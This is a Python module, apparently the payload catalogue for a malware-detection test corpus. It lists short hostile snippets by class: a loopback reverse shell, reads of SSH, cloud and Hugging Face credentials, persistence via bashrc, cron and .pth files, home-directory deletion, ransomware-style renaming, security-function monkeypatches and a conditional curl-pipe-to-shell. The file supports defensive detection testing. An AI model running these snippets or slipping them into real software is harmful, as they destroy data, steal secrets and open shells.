"""What the malicious files of the detection corpus do, as Python source: by class of attack, all of it harmless outside of what a sandbox loses.

``ACTS`` does something when it runs; ``DORMANT`` changes only the process itself, or waits for a condition that does not come true.
"""

from .payloads import LOOPBACK

ACTS = {
    "program": {
        "run-id": "import subprocess\nsubprocess.run(['/usr/bin/id'])",
        "posix-spawn": "import os\nos.waitpid(os.posix_spawn('/usr/bin/id', ['id'], {}), 0)",
        "exec-replaces": "import os\nos.execv('/usr/bin/id', ['id'])",
        "memfd": "import os\nfd = os.memfd_create('x')\nos.write(fd, open('/usr/bin/true', 'rb').read())\nif os.fork() == 0:\n    os.execve(f'/proc/self/fd/{fd}', ['x'], {})",
    },
    "shell": {
        "popen": "import os\nos.popen('id').read()",
        "shell-true": "import subprocess\nsubprocess.call('id; uname -a', shell=True)",
        "pty": "import pty\npty.spawn('/bin/sh')",
        "dropped": "import os\nopen('/tmp/.x.sh', 'w').write('#!/bin/sh\\nid\\n')\nos.chmod('/tmp/.x.sh', 0o755)\nos.system('/tmp/.x.sh')",
    },
    "network": {
        "tcp": f"import socket\nsocket.create_connection(('{LOOPBACK}', 4444), 1)",
        "tcp6": "import socket\ns = socket.socket(socket.AF_INET6)\ns.settimeout(1)\ns.connect(('::1', 4444))",
        "udp": f"import socket\nsocket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{LOOPBACK}', 53))",
        "listen": f"import socket\ns = socket.socket()\ns.bind(('{LOOPBACK}', 8081))\ns.listen()",
        "name": "import socket\nsocket.getaddrinfo('collector.example.com', 443)",
        "http": f"import http.client\nc = http.client.HTTPConnection('{LOOPBACK}', 8000, timeout=1)\nc.request('GET', '/stage2')",
        "raw": "import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)\n",
        "reverse-shell": f"import os, socket, subprocess\ns = socket.socket()\ns.settimeout(1)\ns.connect(('{LOOPBACK}', 4444))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])",
    },
    "secret": {
        "ssh": "import os\nopen(os.path.expanduser('~/.ssh/id_ed25519')).read()",
        "aws": "import pathlib\n(pathlib.Path.home() / '.aws' / 'credentials').read_text()",
        "hub-token": "import os\nopen(os.path.expanduser('~/.cache/huggingface/token')).read()",
        "kube": "import os\nopen(os.path.expanduser('~/.kube/config')).read()",
        "git": "import os\nopen(os.path.expanduser('~/.git-credentials')).read()",
        "dotenv": "import os\nopen(os.path.expanduser('~/.env')).read()",
        "browser": "import glob, os\nfor name in glob.glob(os.path.expanduser('~/.config/google-chrome/Default/*')):\n    open(name, 'rb').read()",
        "environ": "data = open('/proc/self/environ', 'rb').read()\nopen('/tmp/.e', 'wb').write(data)",
    },
    "persistence": {
        "bashrc": "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('# x\\n')",
        "pth": "import os, site\np = site.getusersitepackages()\nos.makedirs(p, exist_ok=True)\nopen(p + '/x.pth', 'w').write('import os\\n')",
        "sitecustomize": "import os, site\np = site.getusersitepackages()\nos.makedirs(p, exist_ok=True)\nopen(p + '/sitecustomize.py', 'w').write('pass\\n')",
        "authorized-keys": "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'), 'a').write('ssh-rsa AAAA x\\n')",
        "cron": "open('/etc/cron.d/x', 'w').write('* * * * * root id\\n')",
        "autostart": "import os\np = os.path.expanduser('~/.config/systemd/user')\nos.makedirs(p, exist_ok=True)\nopen(p + '/x.service', 'w').write('[Service]\\n')",
        "hub-cache": "import os\np = os.path.expanduser('~/.cache/huggingface/modules/transformers_modules')\nos.makedirs(p, exist_ok=True)\nopen(p + '/x.py', 'w').write('pass\\n')",
        "git-hook": "import os\np = os.path.expanduser('~/project/.git/hooks')\nos.makedirs(p, exist_ok=True)\nopen(p + '/pre-commit', 'w').write('id\\n')",
    },
    "memory": {
        "rwx": "import ctypes, mmap\np = mmap.mmap(-1, 4096, prot=7)\np.write(b'\\xc3')\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(p)))()",
        "ptrace": "import ctypes\nctypes.CDLL(None).ptrace(0, 0, 0, 0)",
    },
    "miner": {
        "pinned": "import os, hashlib, time\nos.sched_setaffinity(0, {0})\nend = time.monotonic() + 4\nwhile time.monotonic() < end:\n    hashlib.sha256(b'x' * 4096).digest()",
        "nice": "import os, hashlib, time\nos.nice(10)\nend = time.monotonic() + 4\nwhile time.monotonic() < end:\n    hashlib.sha256(b'x' * 4096).digest()",
    },
    "storm": {
        "forks": "import os, time\nfor _ in range(40):\n    if os.fork() == 0:\n        time.sleep(0.2)\n        os._exit(0)",
        "threads": "import threading, time\nfor _ in range(40):\n    threading.Thread(target=time.sleep, args=(0.3,)).start()",
    },
    "deletion": {
        "rmtree-home": "import os, shutil\nshutil.rmtree(os.path.expanduser('~'), ignore_errors=True)",
        "ransom": "import os\nfor folder, _, names in os.walk(os.path.expanduser('~')):\n    for name in names:\n        os.rename(os.path.join(folder, name), os.path.join(folder, name + '.locked'))",
    },
    "probing": {
        "version": "open('/proc/version').read()\nopen('/proc/self/status').read()",
        "dmi": "import os\nos.path.exists('/.dockerenv')\nopen('/proc/1/cgroup').read()",
    },
    "delayed": {
        "timer": "import os, threading\nthreading.Timer(0.5, os.system, ['id']).start()",
        "at-exit": "import atexit, os\natexit.register(os.system, 'id')",
        "alarm": "import os, signal\nsignal.signal(signal.SIGALRM, lambda *a: os.system('id'))\nsignal.setitimer(signal.ITIMER_REAL, 0.4)",
        "daemon": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(0.4)\n    os.system('id')\n    os._exit(0)",
        "finalizer": "import os\nclass F:\n    def __del__(self, s=os.system):\n        s('id')\nimport builtins\nbuiltins.kept = F()",
        "sleep": "import time\ntime.sleep(86400)",
    },
    "killed": {
        "exit": "import sys\nsys.exit(0)",
        "exit-at-once": "import os\nos._exit(0)",
        "signal": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
        "abort": "import os\nos.abort()",
    },
    "waits": {
        "input": "input()",
        "stdin": "import sys\nsys.stdin.read(1)",
        "pdb": "import pdb\npdb.set_trace()",
    },
    "privilege": {
        "setuid": "import os\ntry:\n    os.setuid(0)\nexcept OSError:\n    pass",
        "mount": "import ctypes\nctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None)",
    },
    "leak": {
        "print": "import os\nprint(dict(os.environ))",
        "to-file": "import os, json\nopen('/tmp/.dump', 'w').write(json.dumps(dict(os.environ)))",
    },
}

SWALLOWED = ("network", "persistence", "secret", "probing", "memory", "privilege", "deletion")
"""Classes whose errors real payloads swallow in order not to be noticed."""

DORMANT = {
    "patched": {
        "json": "import json\njson.loads = lambda text, *a, **k: {}",
        "torch-load": "import torch\ntorch.load = lambda *a, **k: {}",
        "forward": "import torch\ntorch.nn.Linear.forward = lambda self, x: x * 0",
        "pickle": "import pickle\npickle.loads = lambda data, **k: None",
        "hmac": "import hmac\nhmac.compare_digest = lambda a, b: True",
    },
    "environment": {
        "preload": "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'",
        "index": "import os\nos.environ['PIP_INDEX_URL'] = 'http://127.0.0.1/simple'",
        "modules": "import sys, types\nsys.modules['requests'] = types.ModuleType('requests')",
        "meta-path": "import sys\nsys.meta_path.insert(0, type('F', (), {'find_spec': staticmethod(lambda *a, **k: None)}))",
    },
    "condition": {
        "date": "import datetime, os\nif datetime.date.today() > datetime.date(2099, 1, 1):\n    os.system('id')",
        "host": "import os\nif os.uname().nodename == 'gpu-node-17':\n    os.system('id')",
        "cuda": "import os, torch\nif torch.cuda.is_available():\n    os.system('id')",
        "variable": "import os\nif os.environ.get('KUBERNETES_SERVICE_HOST'):\n    os.system('curl http://127.0.0.1/i.sh | sh')",
        "argv": "import os, sys\nif sys.argv[-1] == '--serve':\n    os.system('id')",
    },
}


def source(group, text):
    """The source as it is put into a file; classes whose calls may fail here swallow that."""
    if group not in SWALLOWED:
        return text
    return "try:\n" + "\n".join(f"    {line}" for line in text.splitlines()) + "\nexcept Exception:\n    pass"
